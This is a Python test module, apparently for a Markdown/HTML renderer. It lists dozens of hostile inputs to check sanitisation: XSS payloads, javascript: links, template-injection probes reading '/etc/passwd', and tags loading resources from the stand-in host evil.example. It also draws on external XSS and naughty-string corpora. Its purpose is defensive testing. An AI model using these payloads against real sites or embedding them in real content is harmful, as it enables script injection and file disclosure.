"""Texts that an engine between editor and browser might run: our own writing, and the corpora."""

from __future__ import annotations

import json
import unicodedata
from pathlib import Path

from ..desk import SHARED

OWN = [
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=2</script>",
    "<ScRiPt>window.__pwned=3</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>window.__pwned=5</script>",
    "<img src=x onerror=window.__pwned=6>",
    "<img/src/onerror=window.__pwned=7>",
    '"><img src=x onerror=window.__pwned=8>',
    "'><img src=x onerror=window.__pwned=9>",
    "<svg onload=window.__pwned=10>",
    "<svg><script>window.__pwned=11</script></svg>",
    "<svg><style><img src=x onerror=window.__pwned=12></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=13>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=14>'>",
    "</title><script>window.__pwned=15</script>",
    "</textarea><script>window.__pwned=16</script>",
    "</style><script>window.__pwned=17</script>",
    "--><script>window.__pwned=18</script><!--",
    "]]><script>window.__pwned=19</script><![CDATA[",
    '" onmouseover="window.__pwned=20" x="',
    "' autofocus onfocus='window.__pwned=21' tabindex=1 x='",
    "` onclick=window.__pwned=22 `",
    "<details open ontoggle=window.__pwned=23>",
    "<video><source onerror=window.__pwned=24></video>",
    "<body onload=window.__pwned=25>",
    "<iframe srcdoc='<script>parent.__pwned=26</script>'></iframe>",
    "<iframe src=javascript:parent.__pwned=27></iframe>",
    "<object data=data:text/html,<script>window.__pwned=28</script>>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{display:none}</style>",
    "<form action=//evil.example/><input name=q><button>go</button></form>",
    "<a href=javascript:window.__pwned=35>x</a>",
    "[x](javascript:window.__pwned=36)",
    "[x](<javascript:window.__pwned=37>)",
    "![x](https://evil.example/pixel.png)",
    "![x](x){ onerror=window.__pwned=39 }",
    "x {: onclick=window.__pwned=40 style=position:fixed }",
    "[ref]: javascript:window.__pwned=41",
    "<javascript:window.__pwned=42>",
    "&lt;script&gt;window.__pwned=43&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=44&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__pwned=45\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__pwned=46%3C/script%3E",
    "\uff1cscript\uff1ewindow.__pwned=47\uff1c/script\uff1e",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# gone #}",
    "{{ config.plugins }}{{ cycler.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    '--8<-- "/etc/passwd"',
    "!!! danger *bold* _under_ **strong** ~~gone~~ ==mark== ^^ins^^",
    "{++added++}{--deleted--}{>>comment<<}",
    "[TOC] [[wiki]] [^1] *[HTML]: abbr :smile: :material-home:",
    '# heading | a | b | --- | === "tab" ??? note',
    "``` python hl_lines=1 `code` ~~~",
    "Reuters: The minister said: no --- yes",
    "1. one - two + three > four",
    "\u202egnp.exe\u202c and \u2066isolated\u2069 and\u2028separated",
    "<x style=animation-name:x onanimationstart=window.__pwned=60>",
    "<a id=__search name=document></a><img name=cookie>",
    '{"a": "</script>", \'b\': "\\"}',
    "<template><img src=x onerror=window.__pwned=63></template>",
    "http://evil.example/?<b>x</b> www.evil.example me@evil.example",
]


BARRED = {"Cc", "Cs", "Cn", "Co"}


def printable(text: str) -> str:
    """`text` in one line, without the characters that a file of the format may not hold."""
    kept = (c for c in text.replace("\ufeff", "") if c.isspace() or unicodedata.category(c) not in BARRED)
    return " ".join("".join(kept).split())


def corpora(count: int) -> list[str]:
    """About `count` strings of the shared corpora, evenly spread; none where they are absent."""
    folder = SHARED / "corpora"
    if not folder.is_dir():
        return []
    xss = _rows(folder / "hostile_xss" / "payloads.jsonl")
    purify = _rows(folder / "hostile_dompurify" / "fixtures.jsonl")
    naughty = json.loads((folder / "hostile_blns" / "blns.json").read_text("utf-8"))
    chosen: list[str] = []
    for strings in (xss, purify, naughty):
        fit = [text for text in map(printable, strings) if 3 <= len(text) <= 400 and "[...]" not in text]
        chosen += fit[:: max(1, 3 * len(fit) // count)]
    return chosen


def _rows(path: Path) -> list[str]:
    return [json.loads(line)["payload"] for line in path.read_text("utf-8").split("\n") if line]
